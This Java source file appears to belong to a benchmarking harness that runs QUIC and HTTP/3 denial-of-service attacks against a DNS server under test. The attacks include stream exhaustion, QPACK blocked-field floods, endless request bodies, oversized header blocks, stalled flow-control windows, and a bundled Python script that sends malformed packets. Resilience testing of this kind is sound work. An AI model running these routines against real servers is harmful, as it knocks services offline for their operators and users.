package dev.onoma.comparison;

import io.netty.buffer.Unpooled;
import io.netty.handler.codec.quic.QuicStreamChannel;
import io.netty.handler.codec.quic.QuicStreamType;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.StandardCopyOption;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Objects;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

/// What is done over QUIC.
final class QuicDeeds {
    private static final int STREAMS = 100_000;
    private static final int STREAMS_OPEN = 200;
    private static final int CONNECTIONS = 20;
    private static final int PAUSE_MILLIS = 200;
    private static final int NO_WINDOW_OCTETS = 2000;
    private static final int NO_LIMIT_OCTETS = 1 << 20;
    private static final int CANCELLED = 3;
    private static final int CHUNK_OCTETS = 16 << 10;
    private static final int FIELDS = 2000;
    private static final String SCRIPT = "/dev/onoma/conformance/quic_attacks.py";

    private QuicDeeds() {}

    private static byte[] half(String door) {
        var query = QuicClient.query(door, Victim.NAME);
        return Arrays.copyOf(query, query.length / 2);
    }

    /// A hundred thousand streams that begin a query and do not end it: as many as there may be
    /// stay open, and the oldest is reset for a new one.
    static Deed streamsWithoutEnd(String door) {
        var left = new AtomicInteger(STREAMS);
        return Deed.again((victim, untilNanos) -> {
            try (var client = new QuicClient(victim, door, Victim.ATTACKER)) {
                var done = new CountDownLatch(1);
                var streams = new Streams(client, half(door), left, untilNanos, done);
                client.channel().eventLoop().execute(streams);
                done.await(untilNanos - System.nanoTime(), TimeUnit.NANOSECONDS);
            }
            if (left.get() <= 0) {
                Thread.sleep(PAUSE_MILLIS);
            }
        });
    }

    /// Opens one stream after the other, on the event loop.
    private record Streams(
            QuicClient client,
            byte[] half,
            AtomicInteger left,
            long untilNanos,
            CountDownLatch done,
            ArrayDeque<QuicStreamChannel> open)
            implements Runnable {
        Streams(
                QuicClient client,
                byte[] half,
                AtomicInteger left,
                long untilNanos,
                CountDownLatch done) {
            this(client, half, left, untilNanos, done, new ArrayDeque<>());
        }

        @Override
        public void run() {
            if (!client.isOpen() || !Deed.isTime(untilNanos) || left.get() <= 0) {
                done.countDown();
                return;
            }
            var opened =
                    client.send(
                            QuicStreamType.BIDIRECTIONAL, half, false, new CompletableFuture<>());
            opened.addListener(_ -> {
                if (opened.isSuccess()) {
                    left.decrementAndGet();
                    open.add(opened.getNow());
                    if (open.size() > STREAMS_OPEN) {
                        var oldest = open.remove();
                        var _ = oldest.shutdown(CANCELLED);
                        var _ = oldest.close();
                    }
                    client.channel().eventLoop().execute(this);
                } else {
                    var _ = client.channel().eventLoop().schedule(this, 1, TimeUnit.MILLISECONDS);
                }
            });
        }
    }

    /// Header fields that refer to entries of QPACK's dynamic table which never come (RFC 9204,
    /// section 2.1.2).
    static Deed blockedFields() {
        return Deed.again((victim, untilNanos) -> {
            try (var client = new QuicClient(victim, "https3", Victim.ATTACKER)) {
                client.greet();
                var fields = new ByteArrayOutputStream();
                fields.writeBytes(new byte[] {2, 0, (byte) 0x80});
                var frame = QuicClient.headers(fields.toByteArray());
                while (client.isOpen() && Deed.isTime(untilNanos)) {
                    var _ =
                            client.send(
                                    QuicStreamType.BIDIRECTIONAL,
                                    frame,
                                    false,
                                    new CompletableFuture<>());
                    Thread.sleep(1);
                }
            }
        });
    }

    /// A request of HTTP/3 whose body does not end.
    static Deed largeBody() {
        return Deed.again((victim, untilNanos) -> {
            try (var client = new QuicClient(victim, "https3", Victim.ATTACKER)) {
                client.greet();
                var data = new ByteArrayOutputStream();
                data.writeBytes(QuicClient.post());
                data.writeBytes(new byte[] {0, (byte) 0x84, 0, 0, 0}); // a frame of 64 MiB
                var opened =
                        client.send(
                                QuicStreamType.BIDIRECTIONAL,
                                data.toByteArray(),
                                false,
                                new CompletableFuture<>());
                opened.awaitUninterruptibly();
                while (client.isOpen() && Deed.isTime(untilNanos) && opened.getNow().isActive()) {
                    opened.getNow()
                            .writeAndFlush(Unpooled.wrappedBuffer(new byte[CHUNK_OCTETS]))
                            .await(PAUSE_MILLIS);
                }
            }
        });
    }

    /// Requests of HTTP/3 with more fields than anybody needs.
    static Deed fields() {
        var block = new ByteArrayOutputStream();
        block.writeBytes(QuicClient.fields(Victim.NAME));
        for (int i = 0; i < FIELDS; i++) {
            block.writeBytes(new byte[] {0x21, 'x', 1, 'v'});
        }
        var frame = QuicClient.headers(block.toByteArray());
        return Deed.again((victim, untilNanos) -> {
            try (var client = new QuicClient(victim, "https3", Victim.ATTACKER)) {
                client.greet();
                while (client.isOpen() && Deed.isTime(untilNanos)) {
                    var _ =
                            client.send(
                                    QuicStreamType.BIDIRECTIONAL,
                                    frame,
                                    true,
                                    new CompletableFuture<>());
                    Thread.sleep(1);
                }
            }
        });
    }

    /// What [#packets] can do.
    static final List<String> PACKETS =
            List.of(
                    "pieces",
                    "crypto",
                    "paths",
                    "pings",
                    "updates",
                    "resets",
                    "initials",
                    "versions");

    /// Whether an attack is one of those.
    static boolean isOfPackets(String attack) {
        return (attack.endsWith("-quic") || attack.endsWith("-https3"))
                && PACKETS.contains(attack.substring(0, attack.lastIndexOf('-')));
    }

    /// What `quic_attacks.py` does, in packets that no library would send: takes Python and
    /// aioquic.
    static Deed packets(String kind, String door, int connections) {
        return (victim, untilNanos) -> {
            var script = Files.createTempFile("quic", ".py");
            try (var source = QuicDeeds.class.getResourceAsStream(SCRIPT)) {
                Files.copy(
                        Objects.requireNonNull(source),
                        script,
                        StandardCopyOption.REPLACE_EXISTING);
            }
            double seconds = (untilNanos - System.nanoTime()) / 1e9;
            var attacker =
                    new ProcessBuilder(
                                    "python3",
                                    script.toString(),
                                    kind,
                                    "" + victim.port(door),
                                    door.equals("quic") ? "doq" : "h3",
                                    "" + seconds,
                                    "" + connections)
                            .redirectErrorStream(true)
                            .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                            .start();
            int status = attacker.waitFor();
            Files.delete(script);
            if (status != 0) {
                throw new IOException("quic_attacks.py ended with " + status);
            }
        };
    }

    /// Connections whose streams have half a query, and nothing comes any more.
    static Deed halfQueries(String door) {
        return held(door, half(door), false, NO_LIMIT_OCTETS);
    }

    /// Large answers for which there is no window.
    static Deed answersNotTaken(String door) {
        return held(door, QuicClient.query(door, Victim.BIG_NAME), true, NO_WINDOW_OCTETS);
    }

    /// Transfers of a zone for which there is no window.
    static Deed transfersNotTaken() {
        var query = Victim.transfer();
        query[2] = 0;
        query[3] = 0; // no ID over QUIC
        return held("quic", query, true, NO_WINDOW_OCTETS);
    }

    private static Deed held(String door, byte[] octets, boolean end, int windowOctets) {
        return (victim, untilNanos) -> {
            var clients = new ArrayList<QuicClient>();
            try {
                while (Deed.isTime(untilNanos)) {
                    clients.removeIf(client -> !client.isOpen());
                    if (clients.size() < CONNECTIONS) {
                        clients.add(begun(victim, door, octets, end, windowOctets));
                    } else {
                        Thread.sleep(PAUSE_MILLIS);
                    }
                }
            } finally {
                clients.forEach(QuicClient::close);
            }
        };
    }

    private static QuicClient begun(
            Victim victim, String door, byte[] octets, boolean end, int windowOctets)
            throws IOException {
        var client = new QuicClient(victim, door, Victim.ATTACKER, windowOctets);
        if (door.equals("https3")) {
            client.greet();
        }
        for (int i = 0; i < STREAMS_OPEN; i++) {
            var _ =
                    client.send(
                            QuicStreamType.BIDIRECTIONAL, octets, end, new CompletableFuture<>());
        }
        return client;
    }
}
